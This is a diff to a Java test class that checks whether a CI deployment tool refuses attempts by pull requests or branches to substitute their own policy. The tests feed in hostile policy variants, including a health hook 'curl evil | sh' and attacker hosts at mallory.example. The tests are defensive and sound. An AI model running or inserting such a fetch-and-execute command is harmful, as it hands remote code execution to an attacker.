@@ -1,5 +1,6 @@
 package io.github.flakeferry;
 
+import static io.github.flakeferry.AttackedRun.HOST_KEY;
 import static io.github.flakeferry.AttackedRun.MAIN;
 import static io.github.flakeferry.AttackedRun.POLICY;
 import static io.github.flakeferry.AttackedRun.files;
@@ -8,6 +9,7 @@ import static io.github.flakeferry.AttackedRun.push;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.catchThrowableOfType;
 
+import io.github.flakeferry.fleet.PolicyReader;
 import io.github.flakeferry.model.Failure;
 import io.github.flakeferry.model.FailureReason;
 import io.github.flakeferry.model.GitRevision;
@@ -19,32 +21,22 @@ import java.nio.file.Path;
 import java.util.List;
 import java.util.Map;
 import java.util.stream.Stream;
-import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
-import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.Arguments;
 import org.junit.jupiter.params.provider.MethodSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 /** Attempts to have another policy count than the default branch's. */
-final class WaysAroundThePolicyTest {
-  @TempDir private Path folder;
-  private AttackedRun run;
+final class WaysAroundThePolicyTest extends WaysAround {
   private List<Plan.Pool> pools;
 
   @BeforeEach
-  void begin() throws IOException {
-    run = new AttackedRun(folder);
+  void lookAtWhatCounts() throws IOException {
     var harmless = pullRequest("opened", 8, run.head(8));
     pools = ((Plan.Preview) run.plan("pull_request", harmless)).pools();
     assertThat(pools).hasSize(1);
-  }
-
-  @AfterEach
-  void end() {
-    run.close();
   }
 
   /** What somebody would like the policy to be; each is a policy that can be read. */
@@ -54,11 +46,15 @@ final class WaysAroundThePolicyTest {
         Arguments.of("another host key", POLICY.replace("AAAAIJ3rXxKf", "AAAAIJr2wEvH")),
         Arguments.of("a hook", POLICY.replace("lease: 24h", "health: { command: curl evil | sh }")),
         Arguments.of("no end", POLICY.replace(", lease: 24h", "")),
-        Arguments.of("more boards", POLICY.replace("tags: [production]", "tags: [preview]")),
-        Arguments.of("for good", POLICY.replace("lease: 24h", "action: switch, reboot: always")),
         Arguments.of(
-            "a cache", POLICY + "caches: [{ url: https://mallory.example, for: pull-requests }]\n"),
-        Arguments.of("their own trigger", POLICY.replace("\"try/**\"", "\"try/it\"")));
+            "another board",
+            POLICY.replaceFirst(
+                "\n",
+                "\n  x: { host: mallory.example, host-key: %s, tags: [preview] }\n"
+                    .formatted(HOST_KEY))),
+        Arguments.of("the oldest", POLICY.replace("lease: 24h", "when-busy: take-oldest")),
+        Arguments.of(
+            "another system", POLICY.replace("lab-1.lan,", "lab-1.lan, configuration: x,")));
   }
 
   @ParameterizedTest(name = "{0}")
@@ -82,12 +78,22 @@ final class WaysAroundThePolicyTest {
     assertPolicyOfMain(run.plan("pull_request", payload), head);
   }
 
-  @ParameterizedTest(name = "{0}")
-  @MethodSource("wishes")
-  void aBranchThatFitsAPattern(String what, String policy) throws IOException {
+  @Test
+  void aBranchThatFitsAPatternAndNamesItself() throws IOException {
+    String policy = POLICY.replace("\"try/**\"", "\"try/it\"");
     GitRevision tip = pushed("refs/heads/try/it", "flakeferry.yml", policy);
     var done = run.run("push", push("refs/heads/try/it", tip));
     assertThat(done.verdict().reason()).as(done.log()).contains(FailureReason.REFUSED);
+  }
+
+  /** A cache to publish to would want a key, before the flake is looked at, which is not there. */
+  @Test
+  void aCacheOfOnesOwn() throws IOException {
+    String policy = POLICY + "caches: [{ url: https://mallory.example, for: pull-requests }]\n";
+    GitRevision tip = pushed("refs/pull/7/head", "flakeferry.yml", policy);
+    var done = run.run("pull_request", pullRequest("opened", 7, tip));
+    assertThat(done.verdict().reason()).as(done.log()).contains(FailureReason.EVALUATION_FAILED);
+    assertThat(done.log()).contains("There is no flake.nix").doesNotContain("mallory");
   }
 
   @Test
@@ -102,6 +108,7 @@ final class WaysAroundThePolicyTest {
   }
 
   private GitRevision pushed(String ref, String place, String policy) throws IOException {
+    assertThat(PolicyReader.read("f", policy)).isNotEqualTo(PolicyReader.read("f", POLICY));
     var files = files("of " + ref);
     files.put(place, Entry.text(policy));
     return run.repository.push(ref, MAIN, files);
